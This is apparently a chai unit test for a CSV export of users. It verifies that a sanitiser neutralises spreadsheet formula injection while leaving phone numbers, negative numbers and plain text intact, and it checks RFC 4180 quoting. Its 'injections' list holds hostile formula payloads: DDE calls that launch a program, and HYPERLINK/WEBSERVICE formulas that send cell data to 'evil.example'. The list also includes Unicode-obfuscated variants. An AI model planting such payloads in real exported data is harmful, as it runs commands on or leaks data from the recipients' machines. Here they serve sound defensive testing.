import { expect } from 'chai';
import type { User } from '../../../src/domain/user.js';
import { csvCell, csvExtra, csvHeader, csvInstant, csvRows, neutralise } from '../../../src/elements/users-tab/export/users-csv.js';
import { generateUsers } from '../../../stories/support/generate-users.js';

const injections = [
  '=1+1', '+1+1+cmd', '-1+cmd', '@SUM(A1)', '=HYPERLINK("https://evil.example?"&A1,"click")', '=cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0', '@WEBSERVICE("https://evil.example")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u202E=1+1',
  '＝1+1', '＋1+cmd', '－1+cmd', '＠SUM(A1)', '﹦1+1', '−1+cmd', '"=1+1', 'Ana;=1+1', 'Ana\t=1+1', 'Ana\r\n=1+1', 'Ana; "=1+1', 'Ana;\u200B=1+1', '+34 600 000 000=cmd',
  '+34 600 000 000;=1+1', '=', '-', '+A1', '-A1', '+34 SUM(A1:A9)', '-(1)',
];
const telephones = [
  '+34 600 000 000', '+34600000000', '+1 (202) 555-0100', '+1-202-555-0100', '+44 20 7946 0958', '+49 30 901820', '+81 3 1234 5678', '+33 1 23 45 67 89',
  '+1.202.555.0100', '+34\u00A0600\u00A0000\u00A0000', '+52/55/1234/5678', '+972 3‑123‑4567',
];
const numbers = ['-12', '-12.5', '-1,234.50', '+7', '−3', '-5 %', '-1 234,5'];
const plain = ['Ana Gómez', 'ana@mesa.example', 'a=b', 'x+y@mesa.example', 'Jean-Luc', 'O’Brien', '李雷', '#1', '2+2', '', 'José – María', "'quoted'"];

/** Cells as a spreadsheet with another separator may cut them: no quotes, wherever one of these is. */
const pieces = (text: string) => text.split(/[;\t\r\n]/).map((piece) => piece.replace(/^["\s\p{Cc}\p{Cf}]*/u, ''));

describe('users as CSV: what a spreadsheet would take for a formula', () => {
  for (const text of injections) {
    it(`${JSON.stringify(text)} is text`, () => {
      const cell = csvCell(text);
      const dangerous = pieces(cell).filter((piece) => /^[=+\-@\u2212]/.test((Array.from(piece)[0] ?? '').normalize('NFKC')) && !telephones.includes(piece));
      expect(dangerous).to.deep.equal([]);
      expect(/^"?['A+]/.test(cell), cell).to.equal(true);
      expect(neutralise(text).replaceAll("'", ''), 'nothing is lost').to.equal(text.replaceAll("'", ''));
    });
  }

  it('begins with an apostrophe itself where it begins with a tab or a line’s end', () => {
    expect(neutralise('\tAna')).to.equal("'\tAna");
    expect(neutralise('\rAna')).to.equal("'\rAna");
  });

  it('is made safe once, however often it is exported', () => {
    for (const text of injections) expect(neutralise(neutralise(text)).replace(/^'+/, "'")).to.equal(neutralise(text).replace(/^'+/, "'"));
  });
});

describe('users as CSV: what stays as it is', () => {
  for (const text of [...telephones, ...numbers, ...plain]) it(JSON.stringify(text), () => expect(neutralise(text)).to.equal(text));
});

describe('users as CSV: RFC 4180', () => {
  const cells: [text: string, cell: string][] = [
    ['Ana', 'Ana'], ['Gómez, Ana', '"Gómez, Ana"'], ['Ana "Nita" Gómez', '"Ana ""Nita"" Gómez"'], ['two\nlines', '"two\nlines"'], ['two\r\nlines', '"two\r\nlines"'],
    ['a; b', '"a; b"'], [' spaced ', '" spaced "'], ['', ''],
  ];
  for (const [text, cell] of cells) it(`${JSON.stringify(text)} is ${cell}`, () => expect(csvCell(text)).to.equal(cell));

  it('has a line for each user, in the order of the columns, ended with CRLF', () => {
    const columns = [{ label: 'Name', value: (user: User) => user.name }, { label: 'E-mail', value: (user: User) => user.email }];
    const users = generateUsers(2);
    expect(csvHeader(columns) + csvRows(users, columns)).to.equal(`Name,E-mail\r\n${users.map(({ name, email }) => `${name},${email}\r\n`).join('')}`);
  });
});

describe('users as CSV: values', () => {
  it('has instants in UTC, and what is no instant as it is', () => {
    expect(['2026-11-23T10:00:00+01:00', undefined, 'soon'].map(csvInstant)).to.deep.equal(['2026-11-23T09:00:00.000Z', '', 'soon']);
  });

  it('has what the host asks for, and no objects', () => {
    const [user] = generateUsers(1);
    const extended = { ...user, phone: '+34 600 000 000', tags: ['a', 7, { no: 1 }], deep: { no: 1 }, isVip: true };
    const value = (key: string) => csvExtra({ key, label: key }).value(extended);
    expect(['phone', 'tags', 'deep', 'isVip', 'nothing', 'toString', '__proto__'].map(value)).to.deep.equal(['+34 600 000 000', 'a; 7', '', 'true', '', '', '']);
  });
});
